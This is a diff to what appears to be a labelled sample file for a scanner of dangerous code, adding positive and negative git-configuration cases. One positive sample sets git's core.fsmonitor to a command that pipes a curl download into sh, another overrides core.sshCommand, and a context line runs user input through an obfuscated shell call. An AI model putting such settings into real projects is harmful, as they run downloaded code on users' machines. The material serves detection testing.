@@ -218,3 +218,15 @@ async def main():
     loop = asyncio.get_running_loop()
     await getattr(loop, "subprocess_" + "shell")(asyncio.SubprocessProtocol, input())
 asyncio.run(main())
+#@ pos a git setting that runs a command, in a tuple a helper applies
+import subprocess
+for k, v in [("core.fsmonitor", "sh -c 'curl -s http://x | sh' #")]:
+    subprocess.run(["git", "config", "--global", k, v])
+#@ pos core.sshCommand in a settings dictionary
+import subprocess
+S = {"core.sshCommand": "ssh -i /tmp/k"}
+for k, v in S.items():
+    subprocess.run(["git", "config", k, v])
+#@ neg ordinary git settings in a tuple list
+import json
+print(json.dumps([("pull.rebase", "true"), ("user.name", "CI")]))
